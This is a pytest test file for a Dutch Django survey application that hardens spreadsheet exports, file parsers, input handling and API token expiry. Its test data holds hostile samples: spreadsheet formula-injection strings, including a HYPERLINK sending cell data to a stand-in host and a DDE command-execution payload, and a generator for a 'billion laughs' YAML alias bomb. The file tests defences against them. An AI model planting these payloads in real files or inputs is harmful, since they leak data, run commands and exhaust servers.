"""Issue 17, part 2: exports write text as text, parsers are bounded, bad input never gives a
server error, API tokens expire."""

import io

import openpyxl
import pytest
from django.urls import reverse

from core.permissions import access_for
from scan import services
from scan.services import AnswerInput
from tests import factories
from tests.model_document import document

pytestmark = pytest.mark.django_db

# Every prefix a spreadsheet may run as a formula, with the text that follows it.
FORMULA_TEXTS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"klik")',
    "+31 6 1234",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\tTAB=1+1",
    "\r=1+1",
    "#N/A",
]


def _answered(scan_round, kind: str, n: int) -> None:
    codes = ["KV1.1", "KV1.2", "KP1.1", "KP1.2", "KP2.1"]
    for _i in range(n):
        respondent = factories.respondent(scan_round, kind=kind)
        services.answers_save(respondent=respondent, answers=[AnswerInput(c, 3) for c in codes])
        services.respondent_submit(respondent)


# --- 1. Excel never runs user text as a formula -------------------------------------------


def test_results_export_writes_user_text_as_text(client, people, org_a):
    doc = document()
    cells = [cell for domain in doc["domains"] for cell in domain["cells"]]
    for cell, text in zip(cells, FORMULA_TEXTS, strict=False):
        cell["name"]["nl"] = text
    scan_round = factories.scan_round(org_a, version=factories.model_version(doc))
    group = scan_round.groups.get(kind="staff")
    group.name = FORMULA_TEXTS[-1]
    group.save()
    _answered(scan_round, "staff", 5)
    factories.release(scan_round)
    client.force_login(people["director_a"])
    response = client.get(reverse("honeycomb:excel", kwargs={"org": "alfa", "pk": scan_round.pk}))
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    found = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                assert cell.data_type != "e", (sheet.title, cell.coordinate, cell.value)
                if cell.value in FORMULA_TEXTS:
                    found.add(cell.value)
                    # text cells with Excel's hidden quote prefix stay text when edited
                    assert cell.data_type == "s"
                    assert cell.quotePrefix == (not cell.value.startswith("#"))
    # every text came back intact, not prefixed or cut
    assert found == set(FORMULA_TEXTS[: len(cells)]) | {FORMULA_TEXTS[-1]}


def test_append_row_keeps_numbers_and_drops_unstorable_characters():
    from core.spreadsheet import append_row

    book = openpyxl.Workbook()
    append_row(book.active, ["=1+1", 3.5, None, "a\x01b", "gewoon"])
    buffer = io.BytesIO()
    book.save(buffer)
    row = next(openpyxl.load_workbook(buffer).active.iter_rows())
    assert [c.value for c in row] == ["=1+1", 3.5, None, "ab", "gewoon"]
    assert [c.data_type for c in row] == ["s", "n", "n", "s", "s"]


# --- 2. YAML alias bombs and oversized model files are refused ----------------------------


def _alias_bomb() -> str:
    """The classic "billion laughs": nine levels of nine aliases each, under 400 bytes that a
    plain safe_load expands to 9**9 (387 million) strings."""
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    names = "abcdefghi"
    for previous, name in zip(names, names[1:], strict=False):
        lines.append(f"{name}: &{name} [{','.join(['*' + previous] * 9)}]")
    return "\n".join(lines) + "\n"


def test_alias_bomb_is_refused_before_it_expands():
    from django.utils import translation

    from scan.modelfile import ModelFileError, parse_model_file

    bomb = _alias_bomb()
    assert len(bomb) < 600
    with translation.override("en"), pytest.raises(ModelFileError) as refused:
        parse_model_file(bomb)
    assert refused.value.errors == [
        "line 2: the file uses a YAML alias (*a). A model file may not use anchors and "
        "aliases: write the content out in full."
    ]


def test_deep_nesting_and_large_files_are_refused():
    from scan.modelfile import MAX_MODEL_FILE_BYTES, ModelFileError, parse_model_file

    with pytest.raises(ModelFileError, match="niveaus diep"):
        parse_model_file("a: " + "[" * 5000 + "]" * 5000)
    with pytest.raises(ModelFileError, match="groter dan 1 MB"):
        parse_model_file("a: " + "x" * MAX_MODEL_FILE_BYTES)


def test_model_import_of_a_bomb_imports_nothing_and_a_normal_file_still_imports(client, people):
    import yaml
    from django.core.files.uploadedfile import SimpleUploadedFile

    from scan.models import MaturityModel

    client.force_login(people["consultant_a"])
    url = reverse("klantraat_model_import")
    bomb = SimpleUploadedFile("model.yaml", _alias_bomb().encode())
    response = client.post(url, {"file": bomb})
    assert response.status_code == 400
    assert "YAML-alias (*a)" in response.content.decode()
    too_large = SimpleUploadedFile("model.yaml", b"#" * (1024 * 1024 + 1))
    response = client.post(url, {"file": too_large})
    assert response.status_code == 400
    assert "groter dan 1 MB" in response.content.decode()
    assert not MaturityModel.objects.exists()
    normal = SimpleUploadedFile("model.yaml", yaml.safe_dump(document()).encode())
    assert client.post(url, {"file": normal}).status_code == 302
    assert MaturityModel.objects.filter(code="testmodel").exists()


# --- 3. bad input gives a clear 4xx, never a server error, and changes nothing --------------


@pytest.fixture
def strict_client(client):
    client.raise_request_exception = False  # a 500 must show as a status, not an exception
    return client


@pytest.mark.parametrize(
    "name,content",
    [
        ("m.csv", b"bron;meting\nAedes;eenhoorns\n"),
        ("m.csv", b"bron;meting;periode;einddatum;waarde\nAedes;eenhoorns;2025;x;y\n"),
        (
            "m.csv",
            b"bron;meting;periode;einddatum;waarde\nAedes;reparaties;2025;2025-12-31;1e400\n",
        ),
        ("m.csv", b"bron;meting;periode;einddatum;waarde\n=1+1;reparaties;2025;2025-12-31;7\n"),
        ("m.csv", b"bron;meting\n" + b"x" * 140_000 + b";y\n"),
        ("m.csv", b"\x00\x01\x02"),
        ("m.xlsx", b"not a workbook"),
        ("m.pdf", b"%PDF-1.7"),
    ],
)
def test_rejected_measures_file_is_a_400_and_imports_nothing(strict_client, people, name, content):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from actions.models import ExternalMeasure

    strict_client.force_login(people["coordinator_a"])
    response = strict_client.post(
        reverse("actions:measures_import", kwargs={"org": "alfa"}),
        {"file": SimpleUploadedFile(name, content)},
    )
    assert response.status_code == 400
    assert "Er is niets geïmporteerd" in response.content.decode()
    assert not ExternalMeasure.objects.exists()


def test_respondent_import_field_over_the_csv_limit_is_a_400_naming_the_row(
    strict_client, people, round_a
):
    from django.core.files.uploadedfile import SimpleUploadedFile

    strict_client.force_login(people["coordinator_a"])
    content = b"email;groep;naam\na@x.nl;medewerkers;Ans\nb@x.nl;medewerkers;" + b"x" * 131_073
    response = strict_client.post(
        reverse("scan:respondent_import", kwargs={"org": "alfa", "pk": round_a.pk}),
        {"file": SimpleUploadedFile("r.csv", content)},
    )
    assert response.status_code == 400
    assert "Rij 3: een veld is langer dan 10000 tekens." in response.content.decode()
    assert not round_a.respondents.exists()


@pytest.mark.parametrize("group", ["abc", "²", "99999999999999999999999", "-1", "999999"])
def test_reminders_for_a_group_that_is_not_the_rounds_are_refused(
    strict_client, people, round_a, round_b, group
):
    from core.models import OutgoingMail

    factories.respondent(round_a, kind="staff")
    services.invitations_queue(scan_round=round_a)
    mails = OutgoingMail.objects.count()
    strict_client.force_login(people["coordinator_a"])
    url = reverse("scan:reminders_send", kwargs={"org": "alfa", "pk": round_a.pk})
    foreign = str(round_b.groups.first().pk)  # a real group, of another organisation's round
    for value in (group, foreign):
        assert strict_client.post(url, {"group": value}).status_code == 404
    assert OutgoingMail.objects.count() == mails


@pytest.mark.parametrize("owner", ["99999999999999999999999", "²", "-1", "abc", "0"])
def test_action_list_with_a_bad_owner_filter_lists_nothing(strict_client, people, round_a, owner):
    from actions import services as action_services

    action_services.action_create(
        access=access_for(people["workgroup_a"], round_a.organisation), title="Eigen", cells=["KP1"]
    )
    strict_client.force_login(people["coordinator_a"])
    response = strict_client.get(reverse("actions:list", kwargs={"org": "alfa"}), {"owner": owner})
    assert response.status_code == 200
    assert list(response.context["actions"]) == []


def test_api_token_revoke_with_a_bad_id_changes_nothing(strict_client, people):
    from honeycomb import services as honeycomb_services

    token, _raw = honeycomb_services.api_token_create(user=people["director_a"], name="BI")
    strict_client.force_login(people["director_a"])
    url = reverse("cms:api_tokens")
    for value in ("99999999999999999999999", "²", "abc"):
        assert strict_client.post(url, {"revoke": value}).status_code == 302
    token.refresh_from_db()
    assert token.revoked_at is None


@pytest.mark.parametrize("model", ["organisation", "membership"])
@pytest.mark.parametrize("view", ["history", "usage"])
def test_cms_history_and_usage_of_organisations_and_memberships(
    strict_client, people, org_a, model, view
):
    from core.models import Membership

    pk = (
        org_a.pk if model == "organisation" else Membership.objects.filter(organisation=org_a)[0].pk
    )
    url = f"/cms/snippets/core/{model}/{view}/{pk}/"
    superuser = factories.UserFactory(is_staff=True, is_superuser=True)
    for user in (people["consultant_a"], superuser):
        strict_client.force_login(user)
        assert strict_client.get(url).status_code == 200
    strict_client.force_login(people["consultant_b"])  # serves Beta only
    assert strict_client.get(url).status_code == 404


def test_healthz_says_ok_only_while_the_database_works(client):
    from unittest import mock

    from django.db import OperationalError, connection

    ok = client.get("/healthz/")
    assert ok.status_code == 200
    assert ok.json() == {
        "status": "ok",
        "checks": {"database": "ok", "cache": "ok", "broker": "ok"},
    }
    with mock.patch.object(
        connection, "cursor", side_effect=OperationalError("database is locked")
    ):
        down = client.get("/healthz/")
    assert down.status_code == 503
    assert down.json()["status"] == "unavailable"
    assert down.json()["checks"]["database"] == "failing"


def test_healthz_says_unavailable_naming_the_broker_when_it_cannot_be_reached(client, monkeypatch):
    import socket
    import time

    # A port nothing listens on: bind one, note it, close it.
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        closed_port = sock.getsockname()[1]
    # Celery reads the broker it publishes to from CELERY_BROKER_WRITE_URL before anything
    # else; setting app.conf.broker_url is ignored whenever CELERY_BROKER_URL is in the
    # environment (the PostgreSQL + Redis runs), and the check then reached the real broker.
    with monkeypatch.context() as patched:
        patched.setenv("CELERY_BROKER_WRITE_URL", f"redis://127.0.0.1:{closed_port}/0")
        started = time.monotonic()
        down = client.get("/healthz/")
        elapsed = time.monotonic() - started
    assert down.status_code == 503
    assert down.json() == {
        "status": "unavailable",
        "checks": {"database": "ok", "cache": "ok", "broker": "failing"},
    }
    assert elapsed < 10
    assert client.get("/healthz/").status_code == 200


# --- 4. API tokens expire, the results API's and the pulse's alike --------------------------


def test_results_api_token_expires_after_a_year_with_a_clear_401(client, people):
    import datetime as dt

    from django.utils import timezone

    from core.models import AccessToken
    from honeycomb.services import api_token_create

    token, raw = api_token_create(user=people["director_a"], name="Power BI")
    lifetime = token.expires_at - timezone.now()
    assert dt.timedelta(days=364) < lifetime <= dt.timedelta(days=365)
    headers = {"HTTP_AUTHORIZATION": f"Bearer {raw}"}
    assert client.get("/api/v1/organisations", **headers).status_code == 200
    AccessToken.objects.filter(pk=token.pk).update(
        expires_at=timezone.now() - dt.timedelta(seconds=1), last_used_at=None
    )
    refused = client.get("/api/v1/organisations", **headers)
    assert refused.status_code == 401
    assert "Dit token is verlopen op" in refused.json()["detail"]
    assert AccessToken.objects.get(pk=token.pk).last_used_at is None
    unknown = client.get("/api/v1/organisations", HTTP_AUTHORIZATION="Bearer " + "x" * 43)
    assert unknown.status_code == 401
    assert unknown.json()["detail"] == "Dit token is onbekend of ingetrokken."


def test_pulse_ingest_token_is_refused_the_same_way_when_expired(client, org_a):

    from django.utils import timezone

    from core.models import AccessToken
    from pulse import services as pulse_services

    record, raw = pulse_services.ingest_token_create(organisation=org_a, name="Systeem", days=1)
    AccessToken.objects.filter(pk=record.pk).update(expires_at=timezone.now())
    refused = client.post(
        "/api/v1/pulse/events",
        {"events": []},
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {raw}",
    )
    assert refused.status_code == 401
    assert "Dit token is verlopen op" in refused.json()["detail"]


def test_api_tokens_page_shows_when_each_token_expires(client, people):
    import datetime as dt

    from django.utils import timezone

    from core.models import AccessToken
    from honeycomb.services import api_token_create

    old, _raw = api_token_create(user=people["director_a"], name="Oud dashboard")
    AccessToken.objects.filter(pk=old.pk).update(expires_at=timezone.now() - dt.timedelta(days=1))
    client.force_login(people["director_a"])
    page = client.post(reverse("cms:api_tokens"), {"name": "Nieuw dashboard"})
    html = page.content.decode()
    assert "Geldig tot" in html and "verlopen" in html
    new = AccessToken.objects.get(name="Nieuw dashboard")
    assert f"Het token werkt tot {timezone.localtime(new.expires_at):%-d} " in html
